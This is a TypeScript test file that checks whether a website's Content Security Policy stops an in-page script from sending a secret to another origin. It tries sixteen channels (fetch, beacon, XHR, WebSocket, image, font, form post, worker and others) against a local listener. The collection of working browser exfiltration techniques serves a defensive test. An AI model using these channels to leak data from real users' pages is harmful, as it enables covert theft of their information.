/**
 * The promise, tried: a script in the page wants to send a secret to another origin, by every way there is. Under the
 * policy nothing arrives. Without the policy everything does, so the ways are real.
 */
import { cpSync, globSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Served, serve } from '../../src/build/serve.ts';
import { launchChromium } from './browser.ts';
import { dist } from './site.ts';

const SECRET = '10.128.0.7';
/** How long a request may take to arrive, once all were made. */
const SETTLE_MS = 2_000;

const ways = [
  'fetch',
  'beacon',
  'xhr',
  'event-source',
  'web-socket',
  'image',
  'script',
  'css-url',
  'stylesheet',
  'font',
  'iframe',
  'object',
  'media',
  'prefetch',
  'form',
  'worker',
] as const;

// A module of the site's own, that a page starts as a worker: its policy is that of its own response.
const workerFile = `addEventListener('message', ({ data }) => {
  fetch(data, { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage('refused'));
});`;

let browser: Browser;
let listener: Server;
let outside: string;
let folder: string;
let heard: Set<string>;

/** A copy of the built site, with the worker's file in it; `guarded` false takes all policy away. */
function copyOf(name: string, { guarded }: { readonly guarded: boolean }): string {
  const dir = join(folder, name);
  cpSync(dist, dir, { recursive: true });
  writeFileSync(join(dir, 'leak-worker.js'), workerFile);
  if (!guarded) {
    rmSync(join(dir, '_headers'));
    for (const path of globSync('**/*.html', { cwd: dir })) {
      const file = join(dir, path);
      const html = readFileSync(file, 'utf8');
      writeFileSync(file, html.replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''));
    }
  }
  return dir;
}

// Runs in the page.
async function tryAll({
  outside,
  secret,
}: {
  readonly outside: string;
  readonly secret: string;
}): Promise<void> {
  const to = (way: string) => `${outside}/${way}?${secret}`;
  const put = (tag: string, attributes: Readonly<Record<string, string>>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const quietly = (attempt: () => unknown) => {
    try {
      attempt();
    } catch {
      // Refused with an exception: as good as refused in silence.
    }
  };
  fetch(to('fetch'), { mode: 'no-cors' }).catch(() => undefined);
  quietly(() => navigator.sendBeacon(to('beacon'), secret));
  quietly(() => {
    const request = new XMLHttpRequest();
    request.open('GET', to('xhr'));
    request.send();
  });
  quietly(() => new EventSource(to('event-source')));
  quietly(() => new WebSocket(to('web-socket').replace('http:', 'ws:')));
  new Image().src = to('image');
  put('script', { src: to('script') });
  put('div', {}).style.backgroundImage = `url("${to('css-url')}")`;
  put('link', { rel: 'stylesheet', href: to('stylesheet') });
  quietly(() => new FontFace('leak', `url("${to('font')}")`).load().catch(() => undefined));
  put('iframe', { src: to('iframe') });
  put('object', { data: to('object'), type: 'text/html' });
  (put('audio', { src: to('media'), preload: 'auto' }) as HTMLAudioElement).load();
  put('link', { rel: 'prefetch', href: to('prefetch') });
  put('iframe', { name: 'sink' });
  (put('form', { action: to('form'), method: 'post', target: 'sink' }) as HTMLFormElement).submit();
  const worker = new Worker('/leak-worker.js');
  await new Promise((done) => {
    worker.onmessage = done;
    worker.onerror = done;
    worker.postMessage(to('worker'));
  });
}

/** Which ways reached the listener from a page of this site. */
async function whatLeaks(served: Served): Promise<string[]> {
  heard.clear();
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(served.url);
  await page.evaluate(tryAll, { outside, secret: SECRET });
  await expect
    .poll(() => heard.size, { timeout: SETTLE_MS, interval: 100 })
    .toBe(ways.length)
    .catch(() => undefined);
  await context.close();
  return [...heard].sort();
}

beforeAll(async () => {
  heard = new Set();
  listener = createServer((request, response) => {
    heard.add((request.url ?? '').split(/[/?]/)[1] ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  listener.on('upgrade', (request, socket) => {
    heard.add((request.url ?? '').split(/[/?]/)[1] ?? '');
    socket.destroy();
  });
  await new Promise<void>((listening) => listener.listen(0, '127.0.0.1', listening));
  outside = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  folder = mkdtempSync(join(tmpdir(), 'leak-'));
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  listener?.close();
  listener?.closeAllConnections();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

test('without the policy every way is open', async () => {
  const served = await serve({ dir: copyOf('open', { guarded: false }), port: 0 });
  expect(await whatLeaks(served)).toEqual([...ways].sort());
  await served.close();
});

test('under the policy nothing leaves', async () => {
  const served = await serve({ dir: copyOf('guarded', { guarded: true }), port: 0 });
  expect(await whatLeaks(served)).toEqual([]);
  await served.close();
});
